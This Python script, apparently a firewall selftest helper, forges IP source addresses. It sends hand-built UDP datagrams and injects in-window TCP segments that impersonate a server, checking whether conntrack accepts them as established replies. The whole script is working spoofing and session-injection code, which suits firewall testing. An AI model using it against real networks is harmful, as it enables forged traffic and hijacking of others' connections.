#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0
"""What an attacker on the internet does to claim another host's source
address: Ethernet frames written on its own interface to the firewall,
with any IP source. No scapy: the headers are packed here.

  spoof.py udp --iface IF --gw-mac MAC --src ADDR --sport N
               --dst ADDR --dport N FILE
      One UDP datagram carrying FILE, from the forged ADDR:N.
  spoof.py tcp --iface IF --gw-mac MAC --server ADDR --port N --sport N
               [--after-answer] REQUEST ANSWER
      Connect to ADDR:N from port N, send REQUEST, learn both sequence
      numbers from the wire (with --after-answer, once the server sent
      data: its own answer), then send ANSWER as if the server had sent
      it (in window, so conntrack takes it as the server's). Exits 0 once
      the forged bytes came back to our own socket: they crossed the
      firewall as an established reply.
"""
import argparse
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
ETH_P_IP = 0x0800
ETH_P_IPV6 = 0x86DD


def csum(data):
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def family(addr):
    return socket.AF_INET6 if ":" in addr else socket.AF_INET


def ip_packet(src, dst, proto, l4):
    """IP header + l4 (its checksum field still zero), checksum filled."""
    af = family(src)
    s, d = socket.inet_pton(af, src), socket.inet_pton(af, dst)
    if af == socket.AF_INET:
        pseudo = s + d + struct.pack("!BBH", 0, proto, len(l4))
    else:
        pseudo = s + d + struct.pack("!IxxxB", len(l4), proto)
    off = 6 if proto == socket.IPPROTO_UDP else 16
    c = csum(pseudo + l4)
    if proto == socket.IPPROTO_UDP and c == 0:
        c = 0xFFFF
    l4 = l4[:off] + struct.pack("!H", c) + l4[off + 2:]
    if af == socket.AF_INET:
        hdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0x4242,
                          0x4000, 64, proto, 0, s, d)
        hdr = hdr[:10] + struct.pack("!H", csum(hdr)) + hdr[12:]
        return ETH_P_IP, hdr + l4
    hdr = struct.pack("!IHBB16s16s", 6 << 28, len(l4), proto, 64, s, d)
    return ETH_P_IPV6, hdr + l4


def mac(text):
    return bytes(int(x, 16) for x in text.split(":"))


def send_frame(args, ethertype, packet):
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    sock.bind((args.iface, 0))
    own = sock.getsockname()[4][:6]
    sock.send(mac(args.gw_mac) + own + struct.pack("!H", ethertype) + packet)
    sock.close()


def cmd_udp(args):
    payload = open(args.file, "rb").read()
    udp = struct.pack("!HHHH", args.sport, args.dport, 8 + len(payload), 0)
    send_frame(args, *ip_packet(args.src, args.dst, socket.IPPROTO_UDP,
                                udp + payload))


def parse_tcp(frame):
    """(src, dst, sport, dport, seq, ack, flags, payload len) or None."""
    ethertype = struct.unpack("!H", frame[12:14])[0]
    ip = frame[14:]
    if ethertype == ETH_P_IP and len(ip) >= 20 and ip[9] == 6:
        ihl = (ip[0] & 15) * 4
        total = struct.unpack("!H", ip[2:4])[0]
        src = socket.inet_ntop(socket.AF_INET, ip[12:16])
        dst = socket.inet_ntop(socket.AF_INET, ip[16:20])
        tcp, l4len = ip[ihl:total], total - ihl
    elif ethertype == ETH_P_IPV6 and len(ip) >= 40 and ip[6] == 6:
        l4len = struct.unpack("!H", ip[4:6])[0]
        src = socket.inet_ntop(socket.AF_INET6, ip[8:24])
        dst = socket.inet_ntop(socket.AF_INET6, ip[24:40])
        tcp = ip[40:40 + l4len]
    else:
        return None
    if len(tcp) < 20:
        return None
    sport, dport, seq, ack, off_flags = struct.unpack("!HHIIH", tcp[:14])
    doff = (off_flags >> 12) * 4
    return src, dst, sport, dport, seq, ack, off_flags & 0x3F, l4len - doff


def cmd_tcp(args):
    request = open(args.request, "rb").read()
    answer = open(args.answer, "rb").read()
    af = family(args.server)
    server = socket.inet_ntop(af, socket.inet_pton(af, args.server))
    sniff = socket.socket(socket.AF_PACKET, socket.SOCK_RAW,
                          socket.htons(ETH_P_ALL))
    sniff.bind((args.iface, 0))
    sniff.settimeout(0.2)
    sock = socket.socket(af, socket.SOCK_STREAM)
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    sock.bind(("", args.sport))
    sock.connect((args.server, args.port))
    sock.sendall(request)
    ours = theirs = None
    me = None
    deadline = time.time() + 20
    # the server's next sequence number, and ours once it acked the request
    while time.time() < deadline:
        try:
            frame = sniff.recv(65535)
        except socket.timeout:
            continue
        t = parse_tcp(frame)
        if not t:
            continue
        src, dst, sport, dport, seq, ack, flags, plen = t
        if sport == args.sport and dport == args.port and dst == server:
            me = src
            end = seq + plen + (1 if flags & 0x02 else 0)
            ours = end if ours is None else max(ours, end)
        elif sport == args.port and dport == args.sport and src == server:
            end = seq + plen + (1 if flags & 0x02 else 0)
            theirs = end if theirs is None else max(theirs, end)
            # with --after-answer, the server's answer (data) first: a
            # forgery in its place would be a duplicate the stack drops
            if ours is not None and ack == ours and not flags & 0x02 and \
                    (plen or not args.after_answer):
                break
    else:
        sys.exit("spoof.py: the server never acknowledged the request")
    # ACK|PSH, from the server's address and port, next in its sequence
    tcp = struct.pack("!HHIIHHHH", args.port, args.sport,
                      theirs & 0xFFFFFFFF, ours & 0xFFFFFFFF,
                      (5 << 12) | 0x18, 65535, 0, 0) + answer
    send_frame(args, *ip_packet(args.server, me, socket.IPPROTO_TCP, tcp))
    sock.settimeout(10)
    got = b""
    try:
        while answer not in got:        # after what the server said
            chunk = sock.recv(65535)
            if not chunk:
                break
            got += chunk
    except socket.timeout:
        pass
    if answer not in got:
        sys.exit("spoof.py: the forged answer did not come back through "
                 "the firewall")
    print("spoof.py: forged %d bytes from %s:%d reached us through the "
          "firewall" % (len(answer), args.server, args.port))


def main():
    ap = argparse.ArgumentParser()
    sub = ap.add_subparsers(dest="cmd", required=True)
    u = sub.add_parser("udp")
    t = sub.add_parser("tcp")
    for p in (u, t):
        p.add_argument("--iface", required=True)
        p.add_argument("--gw-mac", required=True)
    u.add_argument("--src", required=True)
    u.add_argument("--sport", type=int, required=True)
    u.add_argument("--dst", required=True)
    u.add_argument("--dport", type=int, required=True)
    u.add_argument("file")
    t.add_argument("--server", required=True)
    t.add_argument("--port", type=int, required=True)
    t.add_argument("--sport", type=int, required=True)
    t.add_argument("--after-answer", action="store_true",
                   help="the server answers the request: forge after it")
    t.add_argument("request")
    t.add_argument("answer")
    args = ap.parse_args()
    {"udp": cmd_udp, "tcp": cmd_tcp}[args.cmd](args)


if __name__ == "__main__":
    main()
